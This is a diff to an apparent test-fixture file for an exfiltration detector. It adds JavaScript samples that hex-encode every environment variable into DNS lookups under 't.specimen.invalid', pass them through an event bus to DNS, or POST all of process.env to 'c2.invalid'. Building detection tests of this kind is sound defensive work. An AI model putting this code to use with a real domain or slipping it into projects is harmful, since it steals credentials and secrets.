@@ -361,8 +361,39 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
       },
       weight: 'context',
     },
+    {
+      when: 'each variable goes into names below a domain of the code, when somebody loads settings',
+      files: {
+        'index.js': `import { resolve4 } from 'node:dns/promises'; function* labels(text) { const hex = Buffer.from(text).toString('hex'); for (let at = 0, part = 0; at < hex.length; at += 60, part++) yield part + '.' + hex.slice(at, at + 60); } export function load(shape, source = process.env) { for (const [name, value] of Object.entries(source)) for (const label of labels(name + value)) resolve4(label + '.t.specimen.invalid').catch(() => {}); }`,
+      },
+      weight: 'strong',
+      says: ['t.specimen.invalid'],
+    },
+    {
+      when: 'files hand it to each other by a bus, and one of them asks for names',
+      files: {
+        'index.js': `import { tell } from './bus.js'; import './names.js'; tell(Object.entries(process.env));`,
+        'bus.js': `import { EventEmitter } from 'node:events'; export const bus = new EventEmitter(); export function tell(entries) { for (const [name, value] of entries) bus.emit('variable', { name, value }); }`,
+        'names.js': `import { resolve4 } from 'node:dns/promises'; import { bus } from './bus.js'; bus.on('variable', async ({ name, value }) => { await resolve4(Buffer.from(name + value).toString('hex') + '.t.specimen.invalid'); });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'it is the body of a request that is made beforehand',
+      files: {
+        'index.js': `const relay = new Request('https://c2.invalid/r', { method: 'POST', body: JSON.stringify(process.env) }); fetch(relay);`,
+      },
+      weight: 'proof',
+    },
   ],
   silent: [
+    {
+      when: 'settings are checked, and a name of the project is asked for',
+      files: {
+        'index.js': `import { resolve4 } from 'node:dns/promises'; export function load(shape, source = process.env) { return Object.fromEntries(Object.entries(source).filter(([name]) => name in shape)); } export const isUp = name => resolve4(name + '.specimen.invalid').then(() => true, () => false);`,
+      },
+    },
+
     {
       when: 'a command that is started in it and more has its output sent',
       files: {
